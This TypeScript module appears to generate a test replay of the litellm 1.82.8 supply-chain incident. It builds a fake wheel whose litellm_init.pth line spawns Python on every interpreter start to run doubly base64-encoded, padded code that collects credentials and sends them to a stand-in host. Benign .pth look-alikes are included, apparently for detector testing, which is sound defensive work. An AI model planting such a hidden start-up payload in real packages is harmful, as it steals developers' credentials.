import { base64 } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { gatewayLibrary } from './libraries/gateway.ts';
import { coveragePth, distutilsPrecedencePth, namespacePackagePth } from './look-alikes/start-up.ts';
import { editableInstallPth } from './look-alikes/start-up-finders.ts';
import { credentialCollector, padded } from './payloads.ts';

/** The size of the real file, bytes. */
const PTH_BYTES = 34_628;

function line(c: Remote): string {
  const head =
    'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'';
  const tail = '\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n';
  const inner = (source: string): string =>
    `import base64, subprocess, sys\nB = "${base64(source)}"\nsubprocess.run([sys.executable, "-c", "import base64;exec(base64.b64decode('" + B + "'))"])\n`;
  // base64 twice: 16 bytes of file for 9 of plaintext; comments make up what is missing
  const room = Math.floor(((PTH_BYTES - head.length - tail.length) / 4) * 3);
  const plain = credentialCollector(c);
  const frame = inner('').length;
  const text = inner(padded(plain, Math.floor(((room - frame) / 4) * 3) - 6));
  return `${`${head}${base64(text)}${tail}`.trimEnd().padEnd(PTH_BYTES - 1)}\n`;
}

const malicious = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'litellm',
  version: '1.82.8',
  files: gatewayLibrary(),
  sites: [{ path: 'litellm_init.pth', form: 'line', before: '', code: line(c), after: '' }],
});

export const LITELLM_PTH: Replay = {
  id: '15-litellm-pth',
  title: 'litellm 1.82.8: litellm_init.pth, 34 KB, at every start of the interpreter',
  source: 'https://github.com/BerriAI/litellm/issues/24512',
  runs: 'every interpreter start spawns Python with doubly encoded text that collects and sends credentials',
  remote: 'https://models.gateway-cloud.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '1.82.6'),
  lookAlikes: () => [distutilsPrecedencePth(), coveragePth(), editableInstallPth(), namespacePackagePth()],
};
